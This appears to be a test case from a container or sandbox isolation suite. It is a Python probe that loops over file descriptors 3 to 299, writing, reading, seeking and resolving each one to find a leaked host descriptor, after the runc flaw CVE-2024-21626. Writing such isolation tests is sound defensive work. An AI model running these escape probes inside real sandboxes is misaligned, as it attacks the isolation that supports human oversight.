# Reads and writes every descriptor number, hoping one is the host's: the job socket is number 3.
# Known from: leaked descriptors in containers (CVE-2024-21626).
# expect: success
import fcntl, os

frame = b"\x05\x00\x00\x00\x04\x00\x00\x00\x00"
for number in range(3, 300):
    for use in (
        lambda: os.write(number, frame),
        lambda: os.read(number, 100),
        lambda: os.fstat(number),
        lambda: os.pread(number, 10, 0),
        lambda: os.lseek(number, 0, 0),
        lambda: fcntl.ioctl(number, 0x541B, b"\0" * 8),
        lambda: os.readlink(f"/proc/self/fd/{number}"),
        lambda: os.dup(number),
    ):
        try:
            print("ESCAPED:", number, use())
        except (OSError, ValueError, AttributeError):
            pass
